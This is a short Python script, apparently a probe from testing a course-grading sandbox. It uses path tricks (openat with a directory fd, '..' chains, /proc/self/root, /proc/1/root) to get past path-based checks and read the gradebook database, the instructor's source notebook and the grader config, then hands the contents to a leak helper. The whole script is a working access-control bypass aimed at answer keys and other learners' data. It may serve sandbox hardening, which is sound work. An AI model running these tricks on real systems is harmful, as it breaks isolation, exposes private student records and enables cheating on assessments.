"""Path tricks that fool a path-based check: open a directory, then openat() relative to its fd
(os.open(dir_fd=...)), '..' chains from the working directory, /proc/self/cwd/.. and /proc/self/root.

Got out: the gradebook, the source notebook or other learners' submissions show in the output.
"""
import os

targets = ["gradebook.db", "source/01_gradient_descent/01_gradient_descent.ipynb", "nbgrader_config.py"]
for base in (_COURSE, "/proc/self/root" + _COURSE, "/proc/self/cwd/../../../..", "../../../..", "/proc/1/root" + _COURSE):
    try:
        dfd = os.open(base, os.O_RDONLY | os.O_DIRECTORY)
    except OSError as exc:
        print(base, exc)
        continue
    for name in targets:
        try:
            fd = os.open(name, os.O_RDONLY, dir_fd=dfd)
            _leak(os.read(fd, 4 << 20), f"{base} / {name}")
            os.close(fd)
        except OSError as exc:
            print(base, name, exc)
    os.close(dfd)
